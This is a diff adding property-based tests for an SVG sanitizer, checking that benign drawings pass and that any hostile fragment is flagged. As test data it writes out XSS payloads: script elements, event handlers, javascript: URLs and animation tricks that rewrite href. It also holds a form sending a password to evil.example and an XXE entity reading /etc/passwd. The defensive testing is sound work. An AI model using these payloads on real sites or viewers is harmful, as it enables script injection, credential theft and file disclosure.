@@ -159,3 +159,114 @@ describe("styles are read as CSS, strings as strings", () => {
     for (const [index, pattern] of expected.entries()) expect(found[index]).toMatch(pattern);
   });
 });
+
+describe("property: an SVG runs, loads and submits nothing, whatever form the attempt takes", () => {
+  /** Targets outside the drawing: another host, another file of the site, another scheme. */
+  const outside = fc.constantFrom(
+    "https://evil.example/a.svg#x",
+    "//evil.example/a",
+    "\\/evil.example/a",
+    "other.svg#a",
+    "/images/x.svg",
+    "../secret.png",
+    "data:image/svg+xml;base64,PHN2Zz4=",
+    "javascript:alert(1)",
+    "file:///etc/passwd",
+  );
+  const hrefName = fc.constantFrom("href", "xlink:href");
+  const quote = fc.constantFrom('"', "'", "");
+  /** The attribute's own quote: the one the url() inside does not use. */
+  const around = (inner: string) => (inner === '"' ? "'" : '"');
+  /** Elements that refer to another by an href, and attributes that refer by url(). */
+  const referrer = fc.constantFrom(
+    "use",
+    "image",
+    "feImage",
+    "textPath",
+    "pattern",
+    "linearGradient",
+    "mpath",
+    "tref",
+    "cursor",
+  );
+  const urlAttribute = fc.constantFrom("fill", "stroke", "filter", "mask", "clip-path", "marker-start", "cursor");
+
+  const hostile = fc.oneof(
+    fc.constant("<script>alert(1)</script>"),
+    fc.constant('<handler type="application/ecmascript">alert(1)</handler>'),
+    fc.constantFrom("onload", "onclick", "onmouseover", "onbegin", "ONFOCUSIN").map((on) => `<rect ${on}="alert(1)"/>`),
+    fc.tuple(referrer, hrefName, outside).map(([tag, name, url]) => `<${tag} ${name}="${url}"/>`),
+    fc
+      .tuple(urlAttribute, outside, quote)
+      .map(([name, url, q]) => `<rect ${name}=${around(q)}url(${q}${url}${q})${around(q)}/>`),
+    fc.tuple(outside, quote).map(([url, q]) => `<rect style=${around(q)}fill: URL(${q}${url}${q})${around(q)}/>`),
+    fc.tuple(outside, quote).map(([url, q]) => `<style>rect { fill: url(${q}${url}${q}) }</style>`),
+    outside.map((url) => `<style>@import "${url}";</style>`),
+    fc
+      .constantFrom("href", "xlink:href", "onclick")
+      .map((name) => `<a><set attributeName="${name}" to="javascript:alert(1)"/><text>t</text></a>`),
+    fc.constant('<a><animate attributeName="href" values="javascript:alert(1)"/><text>t</text></a>'),
+    fc.constant('<g xml:base="https://evil.example/"><image href="a.png"/></g>'),
+    fc.constant('<foreignObject><form action="https://evil.example/"><input name="password"/></form></foreignObject>'),
+    fc.constant('<foreignObject><iframe src="/x"></iframe></foreignObject>'),
+    fc
+      .constantFrom("javascript:alert(1)", "data:text/html,<script>x()</script>", "vbscript:x")
+      .map((url) => `<a href="${url}"><text>t</text></a>`),
+  );
+  const hostilePrologue = fc.oneof(
+    fc.constant('<!DOCTYPE svg [<!ENTITY x "xxxxxxxx">]>'),
+    fc.constant('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
+    outside.map((url) => `<?xml-stylesheet type="text/css" href="${url}"?>`),
+  );
+  const benign = fc.constantFrom(
+    '<use href="#g"/>',
+    '<use xlink:href="#g"/>',
+    '<rect fill="url(#g)" stroke="url( \'#g\' )"/>',
+    '<g clip-path="url(#g)"><rect/></g>',
+    "<style>.a { fill: url(#g); stroke-linejoin: round }</style>",
+    '<image href="data:image/png;base64,iVBORw0KGgo="/>',
+    '<a xlink:href="https://www.drawio.com/doc/faq/svg-export-text-problems"><text>help</text></a>',
+    '<foreignObject width="100%"><div xmlns="http://www.w3.org/1999/xhtml" style="display: flex">A label</div></foreignObject>',
+    "<text>url(https://evil.example/) is only text here</text>",
+    '<animate attributeName="opacity" values="0;1" dur="1s"/>',
+  );
+  const benignPrologue = fc.constantFrom(
+    "",
+    '<?xml version="1.0" encoding="UTF-8"?>',
+    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+  );
+  const svg = (prologue: string, parts: readonly string[]) =>
+    `${prologue}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><linearGradient id="g"/></defs>${parts.join("")}</svg>`;
+
+  test("drawings made only of what a drawing needs pass", () => {
+    fc.assert(
+      fc.property(benignPrologue, fc.array(benign, { maxLength: 6 }), (prologue, parts) => {
+        expect(problems(svg(prologue, parts), "svg")).toEqual([]);
+      }),
+    );
+  });
+
+  test("one hostile part, anywhere among them, is caught", () => {
+    fc.assert(
+      fc.property(
+        benignPrologue,
+        fc.array(benign, { maxLength: 4 }),
+        hostile,
+        fc.nat(4),
+        (prologue, parts, attack, at) => {
+          const mixed = [...parts.slice(0, at), attack, ...parts.slice(at)];
+          expect(problems(svg(prologue, mixed), "svg"), attack).not.toEqual([]);
+        },
+      ),
+      { numRuns: 1000 },
+    );
+  });
+
+  test("a hostile prologue (entities, a stylesheet instruction) is caught", () => {
+    fc.assert(
+      fc.property(hostilePrologue, fc.array(benign, { maxLength: 3 }), (prologue, parts) => {
+        expect(problems(svg(prologue, parts), "svg"), prologue).not.toEqual([]);
+      }),
+    );
+  });
+});
